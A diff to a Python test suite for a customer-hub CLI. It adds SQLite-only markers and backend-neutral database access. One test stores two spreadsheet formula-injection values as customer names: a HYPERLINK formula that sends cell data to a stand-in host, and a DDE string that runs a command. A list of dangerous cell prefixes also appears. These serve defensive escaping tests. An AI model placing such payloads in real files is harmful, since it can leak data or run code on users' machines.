@@ -17,7 +17,7 @@ import zipfile
 from xml.sax.saxutils import escape
 
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
-from clihub import BIN, Hub, check, run  # noqa: E402
+from clihub import BIN, Hub, check, run, sqlite_only  # noqa: E402
 
 FORMULA = ("=", "+", "-", "@", "\t", "\r")
 
@@ -49,7 +49,7 @@ def measured(h, *args):
     env.pop("CXHUB_DB", None)
     env.pop("CXHUB_USER", None)
     start = time.time()
-    p = subprocess.run(["/usr/bin/time", "-f", "RSS_KB=%M", BIN, "--db", "sqlite:" + h.db] + list(args),
+    p = subprocess.run(["/usr/bin/time", "-f", "RSS_KB=%M", BIN, "--db", h.url] + list(args),
                        capture_output=True, cwd=h.dir, env=env, timeout=300)
     took = time.time() - start
     m = re.search(rb"RSS_KB=(\d+)", p.stderr)
@@ -198,6 +198,7 @@ def damage(db, page, size):
         f.write(bytes([0x0D, 0xFF, 0xFF, 0xFF, 0xFF]) + b"\xA5" * (size - 5))
 
 
+@sqlite_only("writes garbage over pages of the SQLite file")
 def test_check_names_damage_and_commands_point_to_it():
     h = demo_hub()
     p = h.run("check")
@@ -237,6 +238,7 @@ def test_check_names_damage_and_commands_point_to_it():
     check(not left, "the failed backup and export leave no file (not even an empty one)", str(left))
 
 
+@sqlite_only("drops SQLite's audit trigger and cuts SQLite's name_postings table by hand")
 def test_check_names_a_cut_audit_log_and_a_stale_name_index():
     h = demo_hub("20")
     for name in ("Tamper One Ltd", "Tamper Two Plc", "Tamper Three Co"):
@@ -260,6 +262,7 @@ def test_check_names_a_cut_audit_log_and_a_stale_name_index():
     check(f"missing under the word '{word}'" in names, "check names the word missing from the name index", names[:300])
 
 
+@sqlite_only("backup writes an SQLite file; a PostgreSQL hub refuses it (cli_test, cli_pg_test)")
 def test_backup_never_replaces_another_hub():
     h = demo_hub("20")
     other = demo_hub("10")
@@ -312,9 +315,8 @@ def test_rejected_file_only_ours_and_escaped():
     with open(rejected, "w", encoding="utf-8-sig") as f:
         f.write(text.replace("not-an-email", "ok@three.ng").replace("also-bad", "ok@four.ng"))
     p = h.run("erp-sync", "customers", rejected, "--json")
-    con = sqlite3.connect(h.db)
-    names = [r[0] for r in con.execute("SELECT name FROM accounts WHERE erp_customer_id IN ('E3','E4') ORDER BY erp_customer_id")]
-    con.close()
+    names = [r[0] for r in h.sql("SELECT name FROM accounts WHERE erp_customer_id IN ('E3','E4') "
+                                 "ORDER BY erp_customer_id")]
     check(p.returncode == 0 and names == ['=HYPERLINK("http://x.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0"],
           "the fixed rejected file syncs, the names exactly as the ERP wrote them", f"{names} {p.stderr[:200]}")
     # Its own rejected file a later clean run removes.
